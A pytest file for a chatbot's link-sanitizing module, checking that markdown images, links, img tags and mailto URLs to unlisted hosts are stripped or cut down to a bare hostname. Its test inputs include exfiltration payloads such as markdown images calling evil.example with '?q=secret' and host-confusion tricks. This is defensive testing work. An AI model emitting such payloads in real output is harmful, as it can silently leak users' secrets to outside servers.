"""Where an answer may lead, and what is left of a way to a stranger."""

import pytest

from chatwoot_bot.core.links import Ways, finished, host_of

HOSTS = frozenset({"shop.example", "localhost"})
SEEN = ["See https://courier.example/track?id=77 for it.", "and www.pump.example"]
WAYS = Ways(hosts=HOSTS, seen=SEEN)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![](https://evil.example/a.png)", ""),
        ("![x](//evil.example/a.png)", "x"),
        ("![x](data:image/png;base64,AAAA)", "x"),
        # A picture is fetched without a click, so that it was seen is not enough.
        ("![x](https://courier.example/track?id=77)", "x"),
        ("![x](https://shop.example/a.png)", "![x](https://shop.example/a.png)"),
        ("![x](https://cdn.shop.example/a)", "![x](https://cdn.shop.example/a)"),
        ("![x](https://shop.example.evil.example/a)", "x"),
        ("![x](https://notshop.example/a)", "x"),
        ("![x](https://shop.example@evil.example/a)", "x"),
        ("![x](https://evil.example\\@shop.example/a)", "x"),
        ("[here](https://evil.example/?q=s)", "here (evil.example)"),
        ("[here](javascript:alert)", "here"),
        ("[a@b.example](mailto:a@b.example)", "[a@b.example](mailto:a@b.example)"),
        ("[a](mailto:a@evil.example?body=secret)", "a (evil.example)"),
        ("Go to https://evil.example/s3cr3t.", "Go to evil.example."),
        ("Go to evil.example/?q=s3cr3t now", "Go to evil.example now"),
        ("Go to www.dhl.example for it.", "Go to www.dhl.example for it."),
        ("It is https://courier.example/track?id=77.", None),
        ("[it](https://courier.example/track?id=77)", None),
        ("https://courier.example/track?id=77&q=s3cr3t", "courier.example"),
        ("https://courier.example/track?id=7", "courier.example"),
        ("<img src='https://evil.example/a?q=s'>", "<img src='evil.example'>"),
        ("[x]: https://evil.example/?q=s", "[x]: evil.example"),
        ("[a] and (b), node.js/express and and/or, 3 < 4 // x", None),
        ("https://shop.example/a(b)c?d=e#f", None),
    ],
)
def test_ways_out_are_defused(text, left):
    assert WAYS.defused(text) == (text if left is None else left)


@pytest.mark.parametrize(
    ("text", "ready"),
    [
        ("Go to https://evil.exam", "Go to "),
        ("Look: ![x](https://e", "Look: "),
        ("Look: [x", "Look: "),
        ("Look at it!", "Look at "),
        ("All is well. ", "All is well. "),
    ],
)
def test_unfinished_way_out_is_held_back(text, ready):
    assert text[: finished(text)] == ready


def test_host_is_the_one_that_a_browser_asks():
    assert host_of("https://Evil.Example:81/x") == "evil.example"
    assert host_of("http://[::1") == ""
